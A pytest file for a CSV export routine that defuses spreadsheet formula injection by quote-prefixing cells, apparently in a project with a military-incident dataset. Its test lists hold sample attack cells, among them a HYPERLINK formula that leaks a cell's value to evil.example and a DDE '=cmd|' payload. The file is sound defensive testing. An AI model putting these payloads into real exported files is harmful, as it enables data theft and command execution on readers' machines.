"""Tests of analysis.data.export_csv: CSV that a spreadsheet cannot run as formulas."""

import csv
import re

import pandas as pd
import pytest

from analysis.data.export_csv import FORMULA_TRIGGERS, neutralise_cell, neutralise_formulas, write_csv_safely

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "   =1+1",
    "\uff1d1+1",  # full-width equals sign
    "\u3000=1+1",  # ideographic space, then a formula
    "\u2003=1+1",  # em space
    "\u00a0=1+1",  # no-break space
]


@pytest.mark.parametrize("text", ATTACKS)
def test_every_formula_trigger_gets_a_quote_prefix(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ain al-Asad", "US strikes (Feb 2024)", "", "a=b", "e-mail: x@y", "'already quoted"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise_cell(text) == text


def test_a_lone_dash_is_prefixed_as_owasp_says():
    # harmless in every spreadsheet we know, but OWASP's rule is "starts with", and a rule with
    # exceptions is harder to trust than one extra quote in a rare cell
    assert neutralise_cell("-") == "'-"


@pytest.mark.parametrize("text", ["-3", "+1.5", "-2e3", " -7 ", "-.5"])
def test_text_that_is_a_plain_number_stays_a_number(text):
    assert neutralise_cell(text) == text


def test_numeric_columns_keep_their_values_and_dtype():
    table = pd.DataFrame(
        {
            "killed": pd.Series([-3, 0, None], dtype="Int64"),
            "lat": [-33.5, 0.0, float("nan")],
            "day": pd.to_datetime(["2024-01-28", "2024-02-03", None]),
        }
    )
    safe = neutralise_formulas(table)
    pd.testing.assert_frame_equal(safe, table)


def test_text_categorical_and_header_cells_are_neutralised_and_missing_stays_missing():
    table = pd.DataFrame(
        {
            "=note": pd.Series(["=1+2", None, "plain"], dtype="string"),
            "weapon": pd.Series(["@drone", "rocket", None], dtype="category"),
            "mixed": ["+x", 5, None],
        }
    )
    safe = neutralise_formulas(table)
    assert list(safe.columns) == ["'=note", "weapon", "mixed"]
    assert safe["'=note"].tolist() == ["'=1+2", None, "plain"]
    assert safe["weapon"].tolist() == ["'@drone", "rocket", None]
    assert safe["mixed"].tolist() == ["'+x", 5, None]
    assert table["=note"].iloc[0] == "=1+2", "the input is not modified"


def test_write_csv_safely_writes_quoted_cells_that_read_back_as_text(tmp_path):
    table = pd.DataFrame(
        {
            "notes": ['=HYPERLINK("http://evil.example","x")', 'he said "hi", then left', "line\nbreak", None],
            "us_killed_min": pd.Series([-1, 3, None, 0], dtype="Int64"),
        }
    )
    path = write_csv_safely(table, tmp_path / "out" / "incidents.csv")
    raw = path.read_bytes()
    assert b"\r\n" not in raw and not raw.startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["notes", "us_killed_min"]
    assert rows[1] == ['\'=HYPERLINK("http://evil.example","x")', "-1"]
    assert rows[2] == ['he said "hi", then left', "3"]
    assert rows[3] == ["line\nbreak", ""]
    assert rows[4] == ["", "0"]
    assert not any(cell[:1] in FORMULA_TRIGGERS and not cell.lstrip("-").isdigit() for row in rows for cell in row)
    assert not list(path.parent.glob(".*.tmp")), "written atomically, no temp file left"


def test_write_csv_safely_on_the_bundled_incident_table(tmp_path):
    from analysis.data.dataset import load_incidents

    incidents = load_incidents()
    path = write_csv_safely(incidents, tmp_path / "incidents.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(back) == len(incidents)
    assert list(back.columns) == list(incidents.columns)
    assert back["incident_id"].tolist() == incidents["incident_id"].tolist()


# issue #13: a line break inside a cell starts a new line, and a spreadsheet or a careless reader may start a new row
LINE_ATTACKS = [
    # (cell, neutralised): every line that starts a formula gets its own quote
    ("ok\r=cmd|' /C calc'!A0", "ok\r'=cmd|' /C calc'!A0"),
    ("ok\n=1+1", "ok\n'=1+1"),
    ("ok\r\n  @SUM(A1)", "ok\r\n'  @SUM(A1)"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("a\u2028+A1", "a\u2028'+A1"),
    ("notes\n-3\nmore", "notes\n-3\nmore"),  # a plain number on its own line stays
    ("line\nbreak", "line\nbreak"),
]


@pytest.mark.parametrize("text, safe", LINE_ATTACKS)
def test_every_line_inside_a_cell_is_neutralised(text, safe):
    assert neutralise_cell(text) == safe


def _physical_lines(raw: str) -> list[str]:
    return re.split(r"\r\n|[\r\n\u2028]", raw)


def test_cells_with_line_breaks_never_split_a_row_nor_start_a_line_with_a_formula(tmp_path):
    cells = [text for text, _ in LINE_ATTACKS] + ["\n=HYPERLINK(1)", "\u3000=1", "\u2003@x", "plain"]
    table = pd.DataFrame({"notes": pd.Series(cells, dtype="string"), "n": pd.Series(range(len(cells)), dtype="Int64")})
    path = write_csv_safely(table, tmp_path / "incidents.csv")
    raw = path.read_text(encoding="utf-8")

    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert len(rows) == len(cells) + 1
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(cells))]
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(back) == len(cells)
    assert back["notes"].tolist() == [neutralise_cell(c) for c in cells]

    for line in _physical_lines(raw):  # what a reader that splits at every line break sees
        text = line.lstrip().lstrip('"').lstrip()
        plain_number = re.fullmatch(r'-?\d+("(,"\d+")?)?', text)  # "-3" on its own line is a number, not a formula
        assert text[:1] not in FORMULA_TRIGGERS or plain_number, repr(line)


def test_every_cell_is_quoted_so_a_cr_inside_a_cell_is_inside_quotes(tmp_path):
    table = pd.DataFrame({"notes": ["ok\rnext"], "killed": pd.Series([3], dtype="Int64")})
    raw = write_csv_safely(table, tmp_path / "t.csv").read_bytes()
    assert raw == b'"notes","killed"\n"ok\rnext","3"\n'
